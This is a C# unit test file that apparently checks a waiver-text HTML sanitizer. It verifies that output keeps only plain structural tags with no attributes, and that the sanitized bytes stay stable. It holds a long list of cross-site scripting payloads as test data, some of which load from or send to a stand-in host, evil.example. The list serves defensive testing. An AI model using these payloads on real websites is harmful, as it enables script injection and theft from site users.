using System.Security.Cryptography;
using System.Text;
using AngleSharp;
using ShipCaptainCrew.Actions.Waivers;
using ShipCaptainCrew.Domain.Operators;

namespace ShipCaptainCrew.Tests.Actions;

/// <summary>
/// Waiver texts are sanitized to text and structure: no scripts, resources, styles, attributes or links.
/// </summary>
public sealed partial class WaiverTextTests
{
    private static readonly HashSet<string> Shown = ["p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "b",
        "i", "br", "hr", "blockquote", "table", "thead", "tbody", "tr", "th", "td"];

    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p onclick=alert(1)>x</p>", "<p/onmouseover=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>",
        "<object data=x></object>", "<embed src=x>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a target=_blank href=//evil.example>x</a>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example>", "<style>body{display:none}</style>",
        "<style>@import '//evil.example'</style>", "<p style=position:fixed>x</p>",
        "<p style=\"background:url(//evil.example)\">x</p>",
        "<form action=//evil.example><input name=signer_name></form>", "<button formaction=//evil.example>x</button>",
        "<input type=image src=x onerror=alert(1)>", "<textarea><p>x</p></textarea>", "<select><option>x</select>",
        "<p id=sign>x</p>", "<p name=consent>x</p>", "<p class=errors>x</p>", "<p data-lost=x>x</p>",
        "<p hx-get=/x hx-trigger=load>x</p>",
        "<div hx-on:load=alert(1)>x</div>", "<template><img src=x onerror=alert(1)></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<title><img src=x onerror=alert(1)></title>",
        "<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=1?><p>x</p>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>x", "<html><head><title>t</title></head><body>x</body></html>",
        "<frameset><frame src=javascript:alert(1)>",
        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>", "<td onclick=alert(1)>x</td>",
        "<custom-tag onclick=alert(1)>x</custom-tag>", "<p>\u0000<script>alert(1)</script></p>", "<<p>x</p>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "[x](javascript:alert(1))", "![x](//evil.example/x.png)",
        "> <img src=x onerror=alert(1)>", "`<script>`\n\n    <script>alert(1)</script>",
        "<dialog open>x</dialog>", "<slot name=x></slot>", "<canvas></canvas>", "<portal src=x></portal>",
        "<p lang=en dir=rtl tabindex=1 autofocus onfocus=alert(1)>x</p>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Sanitized_HTML_has_only_text_and_structure_and_sanitizing_again_changes_nothing(string payload)
    {
        var html = WaiverHtml.Of(payload).Html;

        var page = await BrowsingContext.New(Configuration.Default)
            .OpenAsync(response => response.Content($"<!doctype html><body><main>{html}</main>"),
                TestContext.Current.CancellationToken);
        Assert.All(page.QuerySelectorAll("main *"), element =>
        {
            Assert.Contains(element.LocalName, Shown);
            Assert.Empty(element.Attributes);
        });
        Assert.Equal(html, WaiverHtml.Clean(html));
    }

    [Theory]
    [InlineData(
        "# One\n\n- **two**\n- three", "<h1>One</h1>\n<ul>\n<li><strong>two</strong></li>\n<li>three</li>\n</ul>")]
    [InlineData("<div class=x><h2>One</h2><p>two <a href=/x>three</a></p></div>", "<h2>One</h2><p>two three</p>")]
    [InlineData("before <script>alert(1)</script> after", "<p>before  after</p>")]
    public void Markdown_and_HTML_become_plain_structure(string source, string html) =>
        Assert.Equal(html, WaiverHtml.Of(source).Html);

    [Fact]
    public void Sanitizing_keeps_the_whole_sample_waiver() =>
        Assert.All(new[] { SampleWaiver.English, SampleWaiver.Spanish }, sample =>
        {
            var html = WaiverHtml.Of(sample).Html;
            Assert.Equal(5, html.Split("<h2>").Length - 1);
            Assert.Equal(4, html.Split("<li>").Length - 1);
            Assert.Contains("{{name}}", html, StringComparison.Ordinal);
            Assert.Contains(
                sample == SampleWaiver.English ? "not legal advice" : "no es asesoramiento legal",
                html,
                StringComparison.Ordinal);
        });

    /// <summary>
    /// A new version of the sanitizer or of the Markdown library does not change the bytes that are stored. The hashes
    /// change only with the sample.
    /// </summary>
    [Theory]
    [InlineData("en", "A71C618907FA32A5EB165904489E78EE9987C1B5AF10F58E429DE0A036A4E357")]
    [InlineData("es", "E5FB96F53117BD2EC1407772ABED1506131F639C549AAEF2E03D01C8A05094A1")]
    public void The_sample_waiver_has_the_same_bytes_in_every_version_of_the_libraries(string language, string hash)
    {
        var sample = language == "es" ? SampleWaiver.Spanish : SampleWaiver.English;

        var stored = Encoding.UTF8.GetBytes(WaiverHtml.Of(sample).Html);

        Assert.Equal(hash, Convert.ToHexString(SHA256.HashData(stored)));
    }
}
